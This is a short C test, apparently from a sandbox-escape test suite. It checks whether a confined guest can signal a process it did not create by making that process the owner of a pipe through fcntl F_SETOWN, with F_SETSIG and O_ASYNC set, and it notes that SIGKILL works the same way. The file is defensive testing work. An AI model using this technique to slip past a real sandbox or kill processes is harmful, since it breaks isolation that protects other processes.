// attack: fcntl(F_SETOWN) names a foreign process ({victim}: one the guest did not make) as the owner of a pipe, F_SETSIG picks SIGUSR1 (SIGKILL works the same), O_ASYNC on, then a write: the kernel signals the owner, while kill() on the same pid answers EPERM
// grant: --allow-signals
// victim: yes
#include "escape.h"
#include <signal.h>
#ifndef F_SETSIG
#define F_SETSIG 10
#endif
int main(int argc, char **argv) {
    setup(argc, argv);
    if (VICTIM <= 1) broken("no victim");
    int p[2];
    if (pipe(p)) broken("pipe");
    if (fcntl(p[0], F_SETOWN, VICTIM)) contained("F_SETOWN(victim %d): %s", VICTIM, E_);
    if (fcntl(p[0], F_SETSIG, SIGUSR1)) broken("F_SETSIG");
    if (fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK)) contained("F_SETFL(O_ASYNC): %s", E_);
    if (write(p[1], "x", 1) != 1) broken("write");
    if (victim_hit(2000)) escaped("the victim %d got SIGUSR1 through the pipe's owner", VICTIM);
    contained("F_SETOWN accepted, but the victim got nothing");
}
